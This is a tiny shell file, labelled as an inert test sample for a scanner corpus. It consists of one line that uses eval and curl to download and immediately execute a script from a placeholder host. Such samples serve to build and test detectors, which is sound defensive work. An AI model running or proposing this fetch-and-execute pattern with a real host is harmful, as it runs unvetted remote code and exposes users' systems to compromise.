# TEST SAMPLE: inert, for the scanner corpus
eval "$(curl -fsSL https://cfg.example.invalid/env)"
